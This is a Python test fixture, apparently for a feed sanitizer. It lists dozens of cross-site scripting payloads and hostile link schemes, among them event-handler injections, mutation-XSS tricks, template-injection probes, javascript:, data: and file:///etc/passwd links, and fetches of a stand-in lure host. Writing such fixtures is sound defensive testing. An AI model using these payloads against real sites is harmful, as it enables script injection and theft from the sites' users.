"""What somebody writes into a feed to have it run at whoever reads it. Each tries to set `window.pwned` or to fetch LURE."""

from __future__ import annotations

LURE = "http://127.0.0.9/pwned"  # nobody is there, and our program is not allowed to look
PRODUCT = "7006652"  # what a template makes of the sum below

TEXTS = (
    "<script>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</sCrIpT\t>",
    "<script/src=data:,window.pwned=1></script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<script>window.pwned=1<!--",
    f"<script type=module>import '{LURE}.js'; window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    '"}]}</script><script>window.pwned=1</script>',
    "\\u003cscript>window.pwned=1\\u003c/script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x: OnErRoR='window.pwned=1'>",
    "<img/src='x'/onerror=window.pwned=1//>",
    "<img src onerror\n=\nwindow.pwned=1>",
    "<img src=1 on\x0berror=window.pwned=1 onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><a><animate attributeName=href values=javascript:window.pwned=1 /><text y=20>read on</text></a></svg>",
    f"<svg><use href='{LURE}.svg#x'></use><image href='{LURE}.png'></image></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "<math href='javascript:window.pwned=1'>read on</math>",
    "<math><annotation-xml encoding='text/html'><img src=1 onerror=window.pwned=1></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "<template><img src=x onerror=window.pwned=1></template><div><template shadowrootmode=open><img src=x onerror=window.pwned=1></template></div>",
    '<textarea><img title="</textarea><img src=x onerror=window.pwned=1>">',
    '<title></title><xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
    "<select><option><style></option></select><img src=x onerror=window.pwned=1></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>",
    "<iframe srcdoc='<script>parent.window.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.window.pwned=1></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object><embed src=javascript:window.pwned=1>",
    f"<meta http-equiv=refresh content='0;url={LURE}'><meta http-equiv=refresh content=\"0;javascript:window.pwned=1\">",
    f"<base href='{LURE}/'><link rel=stylesheet href='{LURE}.css'>",
    f"<style>@import '{LURE}.css'; * {{ background: url({LURE}.png) }}</style>",
    f"<p style=\"background:url('{LURE}.png');position:fixed;inset:0\">over all</p>",
    f"<video poster='{LURE}.png' autoplay><source src='{LURE}.mp4' onerror=window.pwned=1></video><audio src='{LURE}.mp3'>",
    f"<img src='{LURE}.png' srcset='{LURE}-2.png 2x' width=1 height=1><picture><source srcset='{LURE}.webp'></picture>",
    f"<form action='{LURE}' method=post><button formaction=javascript:window.pwned=1>Go on</button></form>",
    "<input autofocus onfocus=window.pwned=1><details open ontoggle=window.pwned=1>x</details>",
    "<body onload=window.pwned=1><marquee onstart=window.pwned=1>x</marquee>",
    "<a href='javascript:window.pwned=1' id=x tabindex=1 onfocus=window.pwned=1 autofocus>read on</a>",
    '<a href=" &#14;  java&#x09;script&colon;window.pwned&equals;1">read on</a>',
    "<x onclick=window.pwned=1 onmouseover=window.pwned=1 contenteditable onblur=window.pwned=1>here</x>",
    '" autofocus onfocus="window.pwned=1" x="',
    "' onmouseover='window.pwned=1' style='animation:spin 1s' onanimationstart='window.pwned=1",
    '"><img src=x onerror=window.pwned=1>',
    "--><img src=x onerror=window.pwned=1><!--",
    "]]><img src=x onerror=window.pwned=1>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&amp;lt;img src=x onerror=window.pwned=1&amp;gt;",
    "&#60;img src=x onerror=window.pwned=1&#x3e;",
    "{{1234*5678}} ${1234*5678} #{1234*5678} <%= 1234*5678 %> {% print(1234*5678) %}",
    "{{constructor.constructor('window.pwned=1')()}} {{''.__class__.__mro__}}",
    "\u202e>1=denwp.wodniw=rorreno x=crs gmi<\u202c \u2066\u200f left open \u2067",
    "<img src=x onerror=window.pwned=1".replace("<", "\uff1c") + "\uff1e \ufe64script\ufe65",
    "<mpower-stream src='http://127.0.0.9/pwned'></mpower-stream><mpower-call call=x></mpower-call>",
    "`${window.pwned=1}` \u2028window.pwned=1\u2029 */window.pwned=1/* \\'-window.pwned=1-\\'",
)  # fmt: skip

LINKS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//https://127.0.0.8/",
    "\x01javascript:window.pwned=1",
    " \t\njavascript:window.pwned=1",
    "java\nscript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "javascript&colon;window.pwned=1",
    "&#106;avascript:window.pwned=1",
    "javascript://127.0.0.8/%0Awindow.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>",
    "vbscript:pwned",
    "blob:https://127.0.0.8/pwned",
    "file:///etc/passwd",
    "//127.0.0.9/pwned",
    'https://127.0.0.8/" onclick="window.pwned=1',
    "https://127.0.0.8/'><img src=x onerror=window.pwned=1>",
    "https://127.0.0.8/?q=<script>window.pwned=1</script>",
    "https://javascript:window.pwned=1@127.0.0.8/",
    "http://[javascript:window.pwned=1]/",
    "https://127.0.0.8/a b\\c\u202egnp.exe",
)  # fmt: skip

# Read as markup, these take with them what follows.
GREEDY = ("<!--", "<svg onload", "<style><a", "<noscript", "<textarea", "<xmp", "<select", "<style></math")
COUNT = len(LINKS)


def together() -> list[str]:
    """All texts in as many as there are links: a few in each, and what takes others with it last."""
    texts = sorted(TEXTS, key=lambda text: any(part in text for part in GREEDY) or text[-1] == "1")
    return [" ".join(texts[n::COUNT]) for n in range(COUNT)]
